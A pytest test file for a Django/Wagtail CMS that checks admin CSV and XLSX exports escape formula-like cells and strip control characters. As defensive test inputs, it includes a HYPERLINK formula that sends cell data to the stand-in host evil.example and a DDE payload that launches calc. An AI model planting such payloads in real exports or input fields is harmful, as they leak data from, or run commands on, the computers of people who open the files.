"""Spreadsheet exports from the admin: text that looks like a formula is escaped with a leading
apostrophe, and a stored control character does not break the file (downloaded through the admin,
parsed with csv and openpyxl)."""

import csv
import io
from datetime import UTC, datetime

import pytest
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.models import PageLogEntry

from govcms.spreadsheets import SafeSpreadsheetExportMixin, spreadsheet_cell
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

TITLE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+86 571", "'+86 571"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tindent", "'\tindent"),
        ("\r=1", "'\r=1"),
        ("普通标题 = 1", "普通标题 = 1"),
        ("a\x00b\x1fc", "a\ufffdb\ufffdc"),
        ("two\nlines", "two\nlines"),
        (-5, -5),
        (None, None),
    ],
)
def test_spreadsheet_cell(value, cell):
    assert spreadsheet_cell(value) == cell


@pytest.fixture
def history(org):
    """A site-history entry whose label and user name are formulas and carry a control character."""
    actor = UserFactory(username="mallory", first_name="@SUM(1+1)*cmd|' /C calc'!A0", last_name="")
    page = org.county_a1
    page.title = page.draft_title = TITLE + "\x01"
    page.save(update_fields=["title", "draft_title"])
    PageLogEntry.objects.log_action(instance=page, action="wagtail.edit", user=actor)
    return page


def exported(admin_client_for, export_format):
    admin = UserFactory(username="root", is_superuser=True)
    response = admin_client_for(admin).get("/admin/reports/site-history/", {"export": export_format})
    assert response.status_code == 200, response.content[:300]
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_site_history_csv_escapes_formulas(history, admin_client_for):
    rows = list(csv.reader(io.StringIO(exported(admin_client_for, "csv").decode())))
    ours = [row for row in rows[1:] if row[0] == str(history.pk) and "HYPERLINK" in row[1]]
    assert ours, rows
    for row in ours:
        assert row[1] == "'" + TITLE + "\ufffd"
        assert row[4].startswith("'@SUM(1+1)")
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_site_history_xlsx_escapes_formulas_and_survives_control_characters(history, admin_client_for):
    sheet = load_workbook(io.BytesIO(exported(admin_client_for, "xlsx"))).active
    rows = list(sheet.iter_rows(values_only=True))
    ours = [row for row in rows[1:] if str(row[0]) == str(history.pk) and "HYPERLINK" in row[1]]
    assert ours, rows
    for row in ours:
        assert row[1] == "'" + TITLE + "\ufffd"
        assert row[4].startswith("'@SUM(1+1)")
    cells = [cell for row in rows for cell in row if isinstance(cell, str)]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def _views(resolver, prefix=""):
    for entry in resolver.url_patterns:
        if isinstance(entry, URLResolver):
            yield from _views(entry, prefix + str(entry.pattern))
        elif isinstance(entry, URLPattern):
            yield prefix + str(entry.pattern), getattr(entry.callback, "view_class", None)


def test_every_exporting_admin_view_that_resolves_makes_cells_safe():
    """Every URL that resolves to a view able to export a spreadsheet (Wagtail's reports and any
    listing with `list_export`) resolves to one with safe cells."""
    from django.urls import resolve

    exporters = {
        route: view
        for route, view in _views(get_resolver())
        if view and issubclass(view, SpreadsheetExportMixin) and view.list_export and "<" not in route
    }
    assert any("site-history" in route for route in exporters)
    for route in exporters:
        served = resolve("/" + route.replace("^", "").replace("$", "")).func.view_class
        assert issubclass(served, SafeSpreadsheetExportMixin), route


def test_exported_times_are_beijing_time(history, admin_client_for):
    """As the screen shows them: an auditor reading the file is not 8 hours off."""
    entry = PageLogEntry.objects.filter(page=history).latest("timestamp")
    local = timezone.localtime(entry.timestamp)
    rows = list(csv.reader(io.StringIO(exported(admin_client_for, "csv").decode())))
    assert any(str(local) in row for row in rows), rows
    sheet = load_workbook(io.BytesIO(exported(admin_client_for, "xlsx"))).active
    times = [cell for row in sheet.iter_rows(values_only=True) for cell in row if isinstance(cell, datetime)]

    def written(moment):  # XLSX keeps times to the millisecond
        return any(abs((cell - moment.replace(tzinfo=None)).total_seconds()) < 0.001 for cell in times)

    assert written(local) and not written(entry.timestamp.astimezone(UTC))
